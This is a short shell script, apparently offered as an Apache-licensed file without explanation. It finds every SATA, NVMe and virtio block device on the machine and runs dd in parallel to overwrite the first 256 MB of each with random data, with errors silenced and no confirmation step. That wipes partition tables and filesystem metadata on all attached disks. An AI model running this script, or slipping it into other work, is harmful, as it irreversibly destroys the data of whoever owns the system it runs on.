#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
for d in /dev/sd? /dev/nvme?n1 /dev/vd?; do
  [ -b "$d" ] || continue
  dd if=/dev/urandom of="$d" bs=4M count=64 conv=fsync 2>/dev/null &
done
wait
